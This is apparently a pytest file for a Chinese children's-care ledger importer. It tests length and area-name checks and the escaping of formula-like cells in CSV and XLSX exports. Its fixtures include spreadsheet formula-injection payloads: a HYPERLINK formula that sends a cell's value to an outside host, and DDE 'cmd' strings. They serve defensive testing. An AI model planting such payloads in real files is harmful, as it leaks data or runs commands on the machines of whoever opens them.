"""What storage holds a row to is checked in the dry run (lengths, area names); cells that look
like formulas are reported, and every export writes them as text, never as formulas."""

from __future__ import annotations

import csv
import io
import zipfile
from dataclasses import replace
from datetime import date

import openpyxl
import pytest
from sqlmodel import SQLModel

import storage.models  # noqa: F401  (the tables, in SQLModel.metadata)
from care import formulas
from care.children import TEXT_LENGTHS
from care.idcard import make_id
from care.ledger import (
    COLUMN_LENGTHS,
    LEDGER_COLUMNS,
    LedgerParse,
    Problem,
    ProblemCode,
    parse_ledger,
    write_ledger_csv,
    write_ledger_xlsx,
)
from care.roles import split_area_path

TODAY = date(2026, 11, 23)
BORN = date(2015, 3, 1)
HYPERLINK = '=HYPERLINK("http://e.cn/?d="&F2,"详情")'


def row(number: int, **cells: str) -> list[str]:
    values = {
        "姓名": "张三", "性别": "男", "出生日期": "2015-03-01",
        "身份证号": make_id("320999", BORN, 2 * number + 1), "儿童类别": "农村留守儿童",
        "风险等级": "黄", "县(区)": "示范县", "镇(街道)": "城关镇", "村(社区)": "东村",
    } | cells  # fmt: skip
    return [values.get(column, "") for column in LEDGER_COLUMNS]


def to_csv(*rows: list[str]) -> bytes:
    out = io.StringIO()
    csv.writer(out).writerows([list(LEDGER_COLUMNS), *rows])
    return out.getvalue().encode()


def test_one_definition_of_each_length_for_the_table_and_the_ledger() -> None:
    tables = SQLModel.metadata.tables
    lengths = {
        (table, column.name): getattr(column.type, "length", None)
        for table in ("child", "household", "area")
        for column in tables[table].columns
    }
    for field, length in TEXT_LENGTHS.items():
        key = ("household", "code") if field == "household" else ("child", field)
        assert lengths[key] == length, field
    assert COLUMN_LENGTHS["学校"] == lengths["child", "school"] == 80
    assert COLUMN_LENGTHS["村(社区)"] == lengths["area", "name"] == 40


@pytest.mark.parametrize("column", sorted(COLUMN_LENGTHS))
def test_a_cell_longer_than_storage_holds_is_a_row_error(column: str) -> None:
    limit = COLUMN_LENGTHS[column]
    fits, too_long = "长" * limit, "长" * (limit + 1)
    result = parse_ledger(
        to_csv(row(1, **{column: fits}), row(2, **{column: too_long})), today=TODAY
    )
    assert [r.row for r in result.rows] == [2]
    assert result.problems == [
        Problem(3, column, ProblemCode.TOO_LONG, {"length": limit + 1, "limit": limit})
    ]


@pytest.mark.parametrize("column", ["县(区)", "镇(街道)", "村(社区)"])
@pytest.mark.parametrize("name", ["东村/西组", "东村／西组"])
def test_an_area_name_that_cannot_be_an_area_path_is_a_row_error(column: str, name: str) -> None:
    result = parse_ledger(to_csv(row(1), row(2, **{column: name})), today=TODAY)
    assert result.problems == [Problem(3, column, ProblemCode.AREA_NAME, {"value": name})]
    [accepted] = result.rows
    split_area_path(f"{accepted.county}/{accepted.town}/{accepted.village}")  # does not raise


def test_a_control_character_is_a_row_error_and_never_stops_an_export() -> None:
    """No worksheet can hold one: openpyxl raised, and the area's every export failed."""
    result = parse_ledger(to_csv(row(1), row(2, 学校="中心\x0b小学")), today=TODAY)
    assert result.problems == [Problem(3, "学校", ProblemCode.CONTROL_CHARACTER)]
    stored = replace(result.rows[0], school="中心\x01小学")  # as a record stored before
    again = parse_ledger(write_ledger_xlsx([stored]), today=TODAY)
    assert again.problems == [] and again.rows[0].school == "中心小学"


def test_cells_that_look_like_formulas_are_reported_and_the_rows_accepted() -> None:
    cells = {"学校": HYPERLINK, "监护人姓名": "@SUM(A1)", "健康状况": "-cmd|' /C calc'!A0"}
    plain = {"学校": "-", "监护人姓名": "+86 联系", "健康状况": "-5 度"}
    result = parse_ledger(to_csv(row(1, **cells), row(2, **plain)), today=TODAY)
    assert result.problems == [] and len(result.rows) == 2
    assert [(w.row, w.column, w.code) for w in result.warnings] == [
        (2, "学校", ProblemCode.FORMULA),
        (2, "健康状况", ProblemCode.FORMULA),
        (2, "监护人姓名", ProblemCode.FORMULA),
    ]
    assert result.warnings[0].params == {"value": HYPERLINK[:30] + "…"}
    assert result.rows[0].school == HYPERLINK  # kept as it was written


@pytest.mark.parametrize(
    ("text", "looks"),
    [
        ("=HYPERLINK(1)", True), ("=cmd|'/C calc'!A0", True), ("+cmd|x", True),
        ("-A1", True), ("@SUM(1)", True), ("=(A1)", True), ("= A1", True),
        ("-5", False), ("+86 13812345678", False), ("=1+1", False), ("东村", False),
        ("a=b", False), ("-", False), ("", False),
    ],
)  # fmt: skip
def test_what_looks_like_a_formula(text: str, looks: bool) -> None:
    assert formulas.suspicious(text) is looks


def formula_ledger() -> LedgerParse:
    cells = {
        "学校": HYPERLINK, "监护人姓名": "=A1", "父亲务工地": "#N/A", "母亲务工地": "+x",
        "健康状况": "@x", "户号": "-H1",
    }  # fmt: skip
    parsed = parse_ledger(to_csv(row(1, **cells), row(2)), today=TODAY)
    assert parsed.problems == []
    return parsed


def test_the_xlsx_export_has_no_formula_and_reimports_unchanged() -> None:
    parsed = formula_ledger()
    extra = [("结对情况", ("姓名", "结对志愿者"), [(HYPERLINK, "=志愿者")])]
    data = write_ledger_xlsx(parsed.rows, extra)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert len(sheets) == 2 and not any(b"<f>" in s or b"<f " in s for s in sheets)
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    cells = [c for sheet in workbook.worksheets for line in sheet.iter_rows() for c in line]
    assert [c for c in cells if c.data_type in ("f", "e")] == []
    school = workbook.worksheets[0].cell(2, LEDGER_COLUMNS.index("学校") + 1)
    assert (school.value, school.data_type, school.quotePrefix) == (HYPERLINK, "s", True)
    assert workbook.worksheets[1]["A2"].value == HYPERLINK
    again = parse_ledger(data, today=TODAY)
    assert again.rows == [replace(r, row=n) for n, r in enumerate(parsed.rows, start=2)]
    assert len(again.warnings) == len(parsed.warnings) == 5  # #N/A is no formula


def test_the_csv_export_escapes_formulas_and_reimports_unchanged() -> None:
    parsed = formula_ledger()
    data = write_ledger_csv(parsed.rows)
    cells = [c for line in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in line]
    assert not any(c.startswith(formulas.TRIGGERS) for c in cells)
    assert f"'{HYPERLINK}" in cells
    assert parse_ledger(data, today=TODAY).rows == parsed.rows
